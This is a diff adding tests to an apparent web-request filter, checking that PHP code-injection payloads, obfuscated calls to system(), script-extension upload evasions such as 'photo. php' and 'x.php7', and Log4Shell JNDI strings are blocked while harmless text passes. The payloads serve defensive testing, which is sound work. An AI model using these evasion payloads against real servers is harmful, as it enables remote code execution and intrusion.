@@ -275,6 +275,23 @@ class CodeInjectionTests(ClassCase):
         self.blocked(form(cfg="php_value auto_prepend_file /tmp/x.png"), "php")
         self.passes(form(note="Apache needs AddType image/svg+xml .svg for the icons"))
 
+    def test_php_callables(self) -> None:
+        """Functions called through strings and expressions, variable functions with comments."""
+        for payload in ("('system')('id')", '"sys"."tem"(\'id\');', "(sy.(st).em)('uname');",
+                        '"system"(ls);', "(['system'])[0]('uname');", "return\"system\"(xyz)",
+                        "$__[$_[1]](7)", "$_aB[@5]/*x*/[@d] ()", "$a //x\n()"):
+            self.blocked(query(payload), "php")
+        for text in ('log("x");', "$(\"#id\").hide();", 'He said "hi" (twice)', "foo(bar);"):
+            self.passes(query(text))
+
+    def test_upload_name_evasions(self) -> None:
+        """Script extensions after a space, with digits, .phpt; a PHP tag as a cookie name."""
+        for name in ("photo. php", "x.php7", "dangerous.phpt", "shell. jsp", "wp-config. php"):
+            self.blocked(upload(name, "x"), "php" if "jsp" not in name else "java")
+        self.blocked(header("Cookie", "<?php phpinfo(); ?>=value"), "php")
+        for name in ("Star Wars. war photos.jpg", "notes. ear infection.pdf", "report. final.docx"):
+            self.passes(upload(name, "x"))
+
     def test_java(self) -> None:
         """Log4Shell and its obfuscations, OGNL, deserialization."""
         for value in ("${jndi:ldap://x.example/a}", "${${lower:j}${lower:n}di:ldap://x/a}",
